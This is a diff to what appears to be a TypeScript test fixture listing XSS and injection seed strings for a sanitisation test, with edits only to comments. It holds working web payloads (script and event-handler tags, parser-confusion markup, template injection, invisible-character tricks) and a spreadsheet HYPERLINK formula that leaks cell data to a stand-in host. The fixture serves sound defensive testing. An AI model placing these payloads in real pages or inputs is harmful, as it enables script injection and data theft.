@@ -1,4 +1,4 @@
-/** Ways of writing something that runs, loads or breaks out. Each would call `alert`, ask `x.example`, or add an element. */
+/** Texts that try to run, load or break out. Each would call `alert`, request from `x.example`, or add an element. */
 const SEEDS: readonly string[] = [
   // tags
   '<script>alert(1)</script>',
@@ -58,7 +58,7 @@ const SEEDS: readonly string[] = [
   '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
   '<math href="javascript:alert(1)">press</math>',
-  // templates and what parsers read in two ways
+  // templates and markup that parsers read differently
   '<template><script>alert(1)</script></template>',
   '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -98,14 +98,14 @@ const SEEDS: readonly string[] = [
   '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
   '%3Cscript%3Ealert(1)%3C/script%3E',
   '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody would type
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what someone would type
   '${alert(1)} <%= alert(1) %> #{alert(1)}',
-  // signs of other alphabets, and signs that are not seen
+  // look-alike and invisible characters
   '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
   'a\u2028alert(1)\u2029b',
   'safe\u202egpj.exe\u202c<b>',
   '<\u200bscript>alert(1)</script>\ufeff',
-  // JSON-LD, spreadsheets, mails and calendars
+  // JSON-LD, spreadsheets, emails and calendars
   '"}]}</script><script>alert(1)</script>',
   '=HYPERLINK("https://x.example/?"&A1,"press")',
   '+1-1 <b onclick=alert(1)>press</b>',
@@ -114,11 +114,11 @@ const SEEDS: readonly string[] = [
   'x\nEND:VEVENT\nBEGIN:VEVENT\nURL:javascript:alert(1)',
 ]
 
-/** Ends whatever it may stand in: an attribute, a comment, a script, a text box. */
+/** Closes whatever it may appear in: an attribute, a comment, a script, a text box. */
 const BREAK_OUT = `"'>--></script></textarea></title>`
 
 /** 200 texts that must stay text wherever they are shown (T70). */
 export const PAYLOADS: readonly string[] = SEEDS.flatMap(seed => [seed, `${BREAK_OUT}${seed}`])
 
-/** A text of the same length and the same spaces that can mean nothing to a browser. */
+/** A text of the same length with the same spaces that means nothing to a browser. */
 export const harmless = (text: string): string => text.replace(/[^\p{L}\p{N}\s.,:;|]/gu, 'o')
